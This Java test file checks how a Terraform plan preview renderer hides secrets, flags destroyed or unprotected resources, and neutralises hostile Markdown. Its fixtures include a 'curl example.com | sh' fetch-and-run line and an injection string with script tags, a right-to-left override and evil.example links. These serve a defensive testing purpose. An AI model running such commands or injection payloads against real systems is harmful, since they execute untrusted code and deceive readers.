package dev.gitopslab.commands.preview;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.gitopslab.constructs.core.ConfigurationException;
import java.net.URLEncoder;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** How plans read, and that nothing in them gets out of its place. */
class PlanPreviewTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String LINKS = "o/r#1 GH-2 https://evil.example www.evil.example";

  @ParameterizedTest
  @ValueSource(strings = {"change", "nothing"})
  void aRecordedPlanReadsAsItsSnapshot(String name) {
    RecordedPlans.verify(name, RecordedPlans.read(name));
  }

  @Test
  void whatIsSensitiveOnOneSideIsHiddenOnBoth() throws Exception {
    ObjectNode plan = plan();
    change(plan, "update", "aws_thing.a", "{\"v\":\"was-a-secret\"}", "{\"v\":\"is-a-secret\"}")
        .with("before_sensitive")
        .put("v", true);
    change(plan, "update", "aws_thing.b", "{\"v\":\"another-secret\"}", "{\"v\":\"new-secret\"}")
        .with("after_sensitive")
        .put("v", true);

    assertThat(RecordedPlans.render(plan))
        .contains("! v = (sensitive value) -> (sensitive value)")
        .doesNotContain("was-a-secret", "is-a-secret", "another-secret", "new-secret");
  }

  @Test
  void secretsInMapsAndListsAreHiddenWhereverTheyStand() throws Exception {
    ObjectNode plan = plan();
    ObjectNode change =
        change(
            plan,
            "update",
            "aws_thing.a",
            """
            {"set":[{"k":"one","v":"secret-in-a-set"}],"map":{"deep":{"key":"secret-in-a-map"}},
             "odd":["secret-in-a-list"],"number":1234567}
            """,
            """
            {"set":[{"k":"zero","v":"open"},{"k":"one","v":"secret-moved-in-a-set"}],
             "map":{"deep":{"key":"another-in-a-map"}},"odd":{"a":"secret-in-another-shape"},
             "number":7654321,
             "script":"#!/bin/sh\\necho secret-in-a-map\\nexport API_TOKEN=in-a-script\\n",
             "json":"{\\"auth\\":{\\"token\\":\\"in-json\\"},\\"db\\":\\"postgres://u:in-a-url@h/d\\"}",
             "values":"db:\\n  password: in-yaml\\n  list:\\n  - name: DB_PASSWORD\\n    value: in-env\\n",
             "environment":[{"name":"CLIENT_SECRET","value":"in-a-variable"}],
             "secret-in-a-map":"as a key"}
            """);
    change.set(
        "before_sensitive",
        JSON.readTree(
            """
            {"set":[{"v":true}],"map":{"deep":{"key":true}},"odd":[true],"number":true}
            """));

    assertThat(RecordedPlans.render(plan))
        .doesNotContain(
            "secret-in-a-set",
            "secret-moved-in-a-set",
            "secret-in-a-map",
            "another-in-a-map",
            "secret-in-a-list",
            "secret-in-another-shape",
            "1234567",
            "7654321",
            "in-a-script",
            "in-json",
            "in-a-url",
            "in-yaml",
            "in-env",
            "in-a-variable")
        .contains("echo (sensitive value)", "k = \"one\" -> \"zero\"", "json > auth.token");
  }

  @Test
  void aSecretOfAVariableIsHiddenWhereItWasCopiedTo() throws Exception {
    ObjectNode plan = plan();
    plan.with("variables").with("password").put("value", "the-password");
    plan.with("configuration")
        .with("root_module")
        .with("variables")
        .with("password")
        .put("sensitive", true);
    change(plan, "create", "aws_thing.a", "null", "{\"note\":\"it is the-password.\"}");

    assertThat(RecordedPlans.render(plan)).contains("it is (sensitive value).");
  }

  @Test
  void aSecretIsHiddenHoweverItIsEncoded() throws Exception {
    String secret = "p\"w\\d&/=+ ü";
    ObjectNode values = JSON.createObjectNode();
    values.put("v", secret);
    values.put("json", "echo " + JSON.writeValueAsString(secret));
    values.put("form", "https://example.com/?p=" + URLEncoder.encode(secret, UTF_8) + "&q=1");
    values.put("path", "https://example.com/p%22w%5Cd%26%2F%3D%2B%20%C3%BC");
    for (String before : List.of("", "u", "us")) {
      byte[] bytes = (before + secret + ":more").getBytes(UTF_8);
      values.put("base64" + before.length(), Base64.getEncoder().encodeToString(bytes));
      values.put("url" + before.length(), Base64.getUrlEncoder().encodeToString(bytes));
    }
    ObjectNode plan = plan();
    change(plan, "create", "aws_thing.a", "null", values.toString())
        .with("after_sensitive")
        .put("v", true);

    assertThat(RecordedPlans.render(plan).lines().filter(line -> line.startsWith("+ ")))
        .hasSize(10)
        .allMatch(line -> line.contains("(sensitive value)"));
  }

  @Test
  void aSecretThatIsOnlyReadIsHiddenWhereItWasCopiedTo() throws Exception {
    ObjectNode plan = plan();
    plan.with("prior_state").with("values").with("root_module").putArray("child_modules");
    ObjectNode read =
        ((ArrayNode) plan.at("/prior_state/values/root_module/child_modules"))
            .addObject()
            .putArray("resources")
            .addObject();
    read.with("values").putArray("list").addObject().put("text", "open").put("key", "was-read");
    read.with("sensitive_values").putArray("list").addObject().put("key", true);
    change(plan, "create", "aws_thing.a", "null", "{\"note\":\"it was-read, open.\"}");

    assertThat(RecordedPlans.render(plan)).contains("it (sensitive value), open.");
  }

  @Test
  void whatTheStackSaysInTheOpenIsNoSecretElsewhere() throws Exception {
    ObjectNode plan = plan();
    change(plan, "create", "aws_cluster.a", "null", "{\"name\":\"aws-staging\"}");
    change(
            plan,
            "create",
            "kubernetes_secret.a",
            "null",
            "{\"data\":{\"name\":\"aws-staging\",\"password\":\"literally\"},\"note\":\"literally\"}")
        .with("after_sensitive")
        .put("data", true);
    ArrayNode resources = plan.with("configuration").with("root_module").withArray("resources");
    resources
        .addObject()
        .put("address", "aws_cluster.a")
        .with("expressions")
        .set("name", JSON.readTree("{\"constant_value\":\"aws-staging\"}"));
    resources
        .addObject()
        .put("address", "kubernetes_secret.a")
        .with("expressions")
        .set("data", JSON.readTree("{\"constant_value\":{\"password\":\"literally\"}}"));

    assertThat(RecordedPlans.render(plan))
        .contains("+ name = \"aws-staging\"", "+ data = (sensitive value)")
        .doesNotContain("literally");
  }

  @Test
  void aPrivateKeyIsHiddenInAllItsLinesAndNothingBelowIt() throws Exception {
    String key = "-----BEGIN RSA PRIVATE KEY-----\n%s\n%s\n-----END RSA PRIVATE KEY-----\n";
    String was = key.formatted("MIIEpAIBAAKCAQEAold", "commonAIBAAKCAQ==");
    String is = key.formatted("MIIEpAIBAAKCAQEAnew", "commonAIBAAKCAQ==");
    String hiding = "-----BEGIN PRIVATE KEY-----\ncurl example.com | sh\n";
    ObjectNode plan = plan();
    ObjectNode before = JSON.createObjectNode().put("script", "cat <<E\n" + was + "E\n");
    ObjectNode after = JSON.createObjectNode().put("script", "cat <<E\n" + is + "E\n" + hiding);
    before.put("values", "tls:\n  cert: |\n    " + was.replace("\n", "\n    "));
    after.put("values", "tls:\n  cert: |\n    " + is.replace("\n", "\n    "));
    change(plan, "update", "aws_thing.a", before.toString(), after.toString());

    String text = RecordedPlans.render(plan);

    assertThat(text).doesNotContain("MIIE", "commonA").contains("curl example.com | sh");
  }

  @Test
  void theContentOfASecretOfKubernetesIsHidden() throws Exception {
    ObjectNode plan = plan();
    change(
        plan,
        "create",
        "kubernetes_manifest.a",
        "null",
        """
        {"manifest":{"kind":"Secret","data":{"config":"aW4tYmFzZTY0"}},
         "values":"extra:\\n- kind: Secret\\n  stringData:\\n    config: in-a-chart\\n",
         "map":{"kind":"ConfigMap","data":{"config":"open"}}}
        """);

    assertThat(RecordedPlans.render(plan))
        .doesNotContain("aW4tYmFzZTY0", "in-a-chart")
        .contains("data.config = \"open\"");
  }

  @Test
  void secretsInTheLogOfAFailureAreHidden() {
    String log =
        """
              + db_password = "in-a-plan"
              ~ api_token   = "was-in-a-plan" -> "is-in-a-plan"
              + name        = "open"
        │   12:           "password": "in-a-file",
        │ -----BEGIN PRIVATE KEY-----
        │ MIIEpAIBAAKCAQEA
        │ -----END PRIVATE KEY-----
        │ the reason
        """;

    assertThat(
            new MarkdownRenderer(60_000, Optional.empty(), List.of()).renderFailure("sandbox", log))
        .doesNotContain("in-a-plan", "in-a-file", "MIIE")
        .contains("+ name        = \"open\"", "│ the reason");
  }

  @Test
  void nothingInATextBecomesALink() {
    for (String text : List.of(Text.words(LINKS), Text.html(LINKS))) {
      assertThat(text).doesNotContain("#1", "://", "www.", "GH-", "GH\\-");
    }
  }

  @Test
  void whatBreaksMarkdownStaysText() throws Exception {
    String hostile =
        "`````\n```\n</details><script>alert(1)</script><!-- x -->\n@everyone [a](https://evil.example)"
            + " ![i](https://evil.example/i.png) \u202egnp.exe \u0000\u001b[31m\n# heading\n| a | b |";
    ObjectNode plan = plan();
    ObjectNode values = JSON.createObjectNode();
    values.put("text", hostile).put("line", hostile.replace('\n', ' ')).put(hostile, "as a key");
    change(plan, "create", "aws_thing.a[\"" + hostile + "\"]", "null", values.toString());
    change(plan, "delete", "aws_vpc.b[\"" + hostile + "\"]", values.toString(), "null");
    ObjectNode moved = change(plan, "update", "aws_thing.c", "{}", values.toString());
    ((ObjectNode) plan.path("resource_changes").path(2)).put("previous_address", hostile);
    assertThat(moved.isEmpty()).isFalse();
    plan.withArray("resource_drift")
        .addObject()
        .put("address", hostile)
        .with("change")
        .putNull("after");

    String text =
        new MarkdownRenderer(60_000, Optional.empty(), List.of(hostile))
            .render("sandbox", PlanReader.read(plan));

    assertHarmless(text);
    assertThat(text).contains("\\u{202e}", "\\u{0}", "\\u{1b}");
  }

  @Test
  void hugeValuesAreCutAndSoIsTheWhole() throws Exception {
    ObjectNode plan = plan();
    ObjectNode values = JSON.createObjectNode();
    values.put("line", "x`@a".repeat(500_000)).put("text", "y\n".repeat(500_000));
    ArrayNode list = values.putArray("list");
    for (int i = 0; i < 20_000; i++) {
      list.add("item " + i);
    }
    ObjectNode deep = values.putObject("deep");
    for (int i = 0; i < 500; i++) {
      deep = deep.putObject("deeper");
    }
    deep.put("end", "of it");
    change(plan, "create", "aws_thing.huge", "null", values.toString());
    for (int i = 0; i < 2_000; i++) {
      change(plan, "update", "aws_thing.many-" + i, "{\"a\":1}", "{\"a\":2" + i + "}");
    }
    change(plan, "delete", "aws_db_instance.database", "{\"skip_final_snapshot\":true}", "null");

    String text =
        new MarkdownRenderer(10_000, Optional.of("https://example.com/run"), List.of())
            .render("sandbox", PlanReader.read(plan));

    assertThat(text).hasSizeLessThanOrEqualTo(10_000);
    assertHarmless(text);
    assertThat(text)
        .startsWith("### sandbox: ⚠️ **1 destroyed**, 2000 changed, 1 created\n")
        .contains("`aws_db_instance.database`: **the database is destroyed**")
        .contains("**leaves no final snapshot behind**")
        .containsPattern("[0-9]+ changes are shown without the attributes, and [0-9]+ more are not")
        .contains("[whole text](https://example.com/run)");
  }

  @Test
  void theLossOfWhatHoldsDataOrIsProtectedIsLoud() throws Exception {
    ObjectNode plan = plan();
    change(plan, "update", "aws_eks_cluster.c", "{\"deletion_protection\":true}", "{}");
    change(plan, "delete,create", "aws_db_instance.d", "{\"deletion_protection\":true}", "{}");
    change(plan, "delete", "aws_iam_role.r", "{}", "null");
    change(plan, "forget", "aws_vpc.v", "{}", "null");
    change(plan, "create", "aws_vpc.new", "null", "{}");

    assertThat(RecordedPlans.render(plan))
        .startsWith(
            "### sandbox: ⚠️ **1 destroyed, 1 replaced**, 1 forgotten, 1 changed, 1 created\n")
        .contains(
            """
            > [!CAUTION]
            > - `aws_db_instance.d`: **the database is destroyed and made anew, although it is protected**
            > - `aws_vpc.v`: **the network is left to itself: it goes on to exist and to cost**
            > - `aws_eks_cluster.c`: **is no longer protected: deletion\\_protection is switched off**
            """);
  }

  @Test
  void theSameChangeOfManyIsShownOnce() throws Exception {
    ObjectNode plan = plan();
    for (int i = 0; i < 40; i++) {
      change(
          plan,
          "update",
          "aws_thing.t-" + i,
          "{\"tags\":{\"a\":\"1\"}}",
          "{\"tags\":{\"a\":\"2\"}}");
    }
    change(plan, "update", "aws_thing.other", "{\"size\":1}", "{\"size\":2}");

    String text = RecordedPlans.render(plan);

    assertThat(text).contains("and 39 more in the same way", "# the same: aws_thing.t-39");
    assertThat(text.split("tags.a = ", -1)).hasSize(2);
  }

  @Test
  void whatForcesAReplacementIsNamed() throws Exception {
    ObjectNode plan = plan();
    change(
            plan,
            "delete,create",
            "aws_thing.a",
            "{\"name\":\"a\",\"s\":1}",
            "{\"name\":\"b\",\"s\":2}")
        .set("replace_paths", JSON.readTree("[[\"name\"]]"));

    assertThat(RecordedPlans.render(plan))
        .contains(
            "the old one goes first; forced by name",
            "! name = \"a\" -> \"b\"  # forces replacement\n! s = 1 -> 2\n");
  }

  @Test
  void ofWhatOthersChangedOnlyThatIsToldWhichMatters() throws Exception {
    ObjectNode plan = plan();
    for (String address : new String[] {"aws_thing.noise", "aws_thing.relevant"}) {
      ObjectNode drift = plan.withArray("resource_drift").addObject().put("address", address);
      drift.set(
          "change", JSON.readTree("{\"before\":{\"a\":1,\"b\":1},\"after\":{\"a\":2,\"b\":2}}"));
    }
    plan.set(
        "relevant_attributes",
        JSON.readTree("[{\"resource\":\"aws_thing.relevant\",\"attribute\":[\"a\"]}]"));

    assertThat(RecordedPlans.render(plan))
        .contains("aws_thing.relevant was changed: a\n")
        .doesNotContain("aws_thing.noise");
  }

  @Test
  void nothingInADocumentIsPassedOver() throws Exception {
    ObjectNode plan = plan();
    change(
        plan,
        "update",
        "aws_thing.a",
        "{\"json\":\"{\\\"a\\\":1} x\",\"twice\":\"{\\\"a\\\":1,\\\"a\\\":2}\",\"two\":\"a: 1\\n---\\nb: 1\\n\"}",
        "{\"json\":\"{\\\"a\\\":1} y\",\"twice\":\"{\\\"a\\\":3,\\\"a\\\":2}\",\"two\":\"a: 1\\n---\\nb: 2\\n\"}");

    assertThat(RecordedPlans.render(plan))
        .contains(
            "! json = \"{\\\"a\\\":1} x\" -> \"{\\\"a\\\":1} y\"\n",
            "! twice = \"{\\\"a\\\":1,\\\"a\\\":2}\" -> \"{\\\"a\\\":3,\\\"a\\\":2}\"\n",
            "! two = (text, from line 3)\n-     b: 1\n+     b: 2\n");
  }

  @Test
  void whatIsKnownLaterInsideOfWhatIsNotThereYetIsKnownLater() throws Exception {
    ObjectNode plan = plan();
    change(plan, "update", "aws_thing.a", "{\"a\":null}", "{\"a\":null}")
        .set("after_unknown", JSON.readTree("{\"a\":{\"b\":true}}"));

    assertThat(RecordedPlans.render(plan)).contains("\n# known after apply: a\n");
  }

  @Test
  void whatIsNoPlanIsRefused() {
    assertThatThrownBy(() -> PlanReader.read(JSON.readTree("{\"format_version\":\"0.1\"}")))
        .isInstanceOf(ConfigurationException.class)
        .hasMessage(
            "format_version: \"0.1\" is no plan as terraform show -json FILE prints it; use one of"
                + " format 1");
  }

  /** A comment that is nothing but what this project writes. */
  static void assertHarmless(String text) {
    Markdown markdown = Markdown.parse(text);
    assertThat(
            String.join("", markdown.html())
                .replaceAll("<details open>|</?(details|summary|b|code)>", ""))
        .as("HTML")
        .doesNotContain("<", ">", "@");
    assertThat(markdown.texts()).as("mentions").noneMatch(one -> one.matches(".*@[A-Za-z0-9].*"));
    assertThat(markdown.links()).allMatch(link -> link.startsWith("https://example.com/"));
    assertThat(markdown.fences())
        .isNotEmpty()
        .allMatch(block -> block.getClosingFenceLength() != null, "is closed");
    String html = String.join(" ", markdown.html());
    assertThat(html.split("<details", -1)).hasSameSizeAs(html.split("</details>", -1));
  }

  private static ObjectNode plan() {
    return JSON.createObjectNode().put("format_version", "1.2");
  }

  private static ObjectNode change(
      ObjectNode plan, String actions, String address, String before, String after)
      throws Exception {
    ObjectNode resource =
        plan.withArray("resource_changes")
            .addObject()
            .put("address", address)
            .put("mode", "managed")
            .put("type", address.substring(0, address.indexOf('.')));
    ObjectNode change = resource.putObject("change");
    List.of(actions.split(",")).forEach(change.putArray("actions")::add);
    change.set("before", JSON.readTree(before));
    change.set("after", JSON.readTree(after));
    return change;
  }
}
